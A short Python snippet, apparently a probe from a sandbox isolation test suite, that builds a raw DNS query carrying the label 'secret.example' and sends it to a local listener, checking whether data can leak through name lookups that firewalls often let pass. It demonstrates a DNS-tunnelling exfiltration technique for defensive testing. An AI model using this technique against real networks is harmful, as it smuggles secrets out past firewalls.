"""Sends a secret as a question for a name server.

Tries: to get text out through name lookups, which firewalls let pass.
Must: reach nobody.
Control: reaches the listener
"""


def attack():
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07example\0\0\x01\0\x01"
    line = quietly(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    if line is not None:
        line.sendto(question, ("127.0.0.1", WORLD["udp"]))
    quietly(socket.getaddrinfo, "localhost", WORLD["tcp"])
